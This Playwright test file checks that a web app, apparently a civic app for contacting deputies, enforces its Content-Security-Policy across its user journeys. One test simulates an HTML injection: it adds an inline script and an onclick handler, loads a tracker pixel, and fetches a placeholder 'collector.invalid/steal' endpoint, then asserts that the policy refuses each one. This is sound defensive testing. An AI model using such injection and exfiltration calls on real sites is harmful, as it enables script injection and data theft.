// The app under its Content-Security-Policy (issue 11): the server sends the policy with the
// app's document (enforced, not report-only), and the app runs under it without a single
// violation — the start (the inline boot scripts by hash, the wasm, the chunk loader and the
// prefetch of the lazily loaded parts), reading with pictures and the zoomed viewer (style
// attributes), search, a deputy's QR code, events, English texts, signing in, a photo for a
// message (data: pictures), and the live alerts (the stream, connect-src).
//
// Every other journey runs under the same policy too: a violation is logged as a console error
// ("Refused to …"), which fails any test (support/fixtures.ts). This file adds the listener for
// `securitypolicyviolation` events and checks that the listener, and the policy, really bite.
import type { BrowserContext, Page } from '@playwright/test';
import { samplePhoto } from './support/photo';
import { test, expect, partsLoaded } from './support/fixtures';
import { ACCOUNTS, signInWithApi } from './support/auth';

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Records every CSP violation of every document of the context in window.__csp. */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const seen: Violation[] = [];
    (window as unknown as { __csp: Violation[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (e) => {
      seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
}

async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __csp?: Violation[] }).__csp ?? []);
}

async function noViolations(page: Page, where: string): Promise<void> {
  expect(await violations(page), `CSP violations on ${where}`).toEqual([]);
}

test.describe('content security policy', () => {
  test('the document carries an enforced policy that fits the build', async ({ page }) => {
    const res = await page.goto('/');
    const csp = res?.headers()['content-security-policy'] ?? '';
    expect(csp, 'enforced, not report-only').toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
    expect(csp).not.toContain("'unsafe-eval'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(res?.headers()['content-security-policy-report-only']).toBeUndefined();
    expect(res?.headers()['referrer-policy']).toBe('no-referrer');
    // one hash per inline script of the served document, none for anything else
    const inline = await page.evaluate(() => [...document.querySelectorAll('script:not([src])')].length);
    expect(csp.match(/'sha256-/g)?.length).toBe(inline);
    await expect(page.locator('main article').first()).toBeVisible();
  });

  test('the listener and the policy bite: injected script, handler, picture and request are refused', async ({ page, context, consoleGuard }) => {
    await recordViolations(context);
    await page.goto('/');
    await expect(page.locator('main article').first()).toBeVisible();
    await noViolations(page, 'the home screen');
    consoleGuard.allow([/Content Security Policy/, /Refused to/, /Failed to fetch/]);
    // (What an HTML injection would try; the app never renders API text as HTML, this is the
    // second line of defence.)
    const ran = await page.evaluate(async () => {
      const w = window as unknown as { __injected?: boolean; __handler?: boolean };
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true';
      document.head.appendChild(s);
      const b = document.createElement('button');
      b.setAttribute('onclick', 'window.__handler = true');
      document.body.appendChild(b);
      b.click();
      b.remove();
      const img = document.createElement('img');
      img.src = 'https://tracker.invalid/pixel.png';
      document.body.appendChild(img);
      img.remove();
      let fetched = true;
      await fetch('https://collector.invalid/steal').catch(() => (fetched = false));
      await new Promise((r) => setTimeout(r, 200));
      return { injected: w.__injected === true, handler: w.__handler === true, fetched };
    });
    expect(ran).toEqual({ injected: false, handler: false, fetched: false });
    const seen = await violations(page);
    expect([...new Set(seen.map((v) => v.directive))].sort()).toEqual(['connect-src', 'img-src', 'script-src-attr', 'script-src-elem']);
  });

  test('the app runs its journeys without a violation', async ({ page, context, request, baseURL }) => {
    test.setTimeout(150_000);
    await recordViolations(context);
    await signInWithApi(context, request, baseURL!, ACCOUNTS.citizen.phone);

    // the start, and every lazily loaded part fetched (the loader's prefetch)
    await page.goto('/');
    await expect(page.locator('main article').first()).toBeVisible();
    await partsLoaded(page);
    await noViolations(page, 'the home screen');

    // an article with its pictures, zoomed in the viewer
    await page.locator('main article a').first().click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const picture = page.getByRole('button', { name: /^查看大图/ }).first();
    if ((await picture.count()) > 0) {
      await picture.click();
      const viewer = page.getByRole('dialog', { name: '查看大图' });
      const img = viewer.locator('img');
      await expect(img).toBeVisible();
      const before = await img.evaluate((el) => el.getBoundingClientRect().width);
      await viewer.getByRole('button', { name: '放大' }).click();
      // the style attribute is applied, not just written (style-src-attr)
      await expect.poll(() => img.evaluate((el) => el.getBoundingClientRect().width)).toBeGreaterThan(before * 1.2);
      await page.keyboard.press('Escape');
    }
    await noViolations(page, 'an article');

    for (const [url, what] of [
      ['/search?q=%E4%BA%BA%E5%A4%A7', 'search'],
      ['/d/LW01', "a deputy's profile"],
      ['/deputies/dp_lw01/card', 'the QR card'],
      ['/events', 'events'],
      ['/responsiveness', 'the responsiveness table'],
      ['/board', 'the public board'],
      ['/notifications', 'the alerts (live stream)'],
    ] as const) {
      await page.goto(url);
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
      await noViolations(page, what);
    }
    // the stream is open under connect-src
    await expect.poll(() => page.evaluate(() => performance.getEntriesByType('resource').some((e) => e.name.includes('/notifications/stream'))), {
      timeout: 20_000,
    }).toBe(true);

    // a photo for a new message: a data: picture, drawn on a canvas
    await page.goto('/messages/new?to=deputy:dp_lw01');
    await page.locator('#compose-photos').setInputFiles(samplePhoto());
    await expect(page.getByRole('img', { name: '照片 1' })).toBeVisible();
    await noViolations(page, 'compose with a photo');

    // English: its texts are a file fetched when picked
    await page.evaluate(() => localStorage.setItem('zsrd.prefs.v1', JSON.stringify({ font: 'standard', elderly: false, lang: 'en' })));
    await page.goto('/me');
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await noViolations(page, 'English');
  });
});
